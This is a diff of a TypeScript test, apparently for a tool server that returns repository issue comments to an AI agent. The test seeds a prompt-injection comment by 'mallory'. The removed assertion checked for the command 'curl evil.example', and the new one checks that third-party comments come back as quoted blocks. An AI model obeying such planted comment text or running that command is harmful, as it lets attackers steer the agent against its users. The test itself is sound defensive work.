@@ -283,7 +283,11 @@ describe('without lockdown', () => {
         issue_number: SEED.injectionIssue,
         comments_limit: 50,
       });
-      expect(textOf(res)).toContain('curl evil.example');
+      // Text by others comes as a quoted block, so it cannot pass for the server's own lines.
+      const c = standin.world.repo(o, r)!.comments.find((x) => x.author === 'mallory')!;
+      expect(textOf(res)).toContain(
+        `comment ${c.id} by mallory on ${c.createdAt.slice(0, 10)}:\n> ${c.body}`,
+      );
     } finally {
       await client.close();
     }
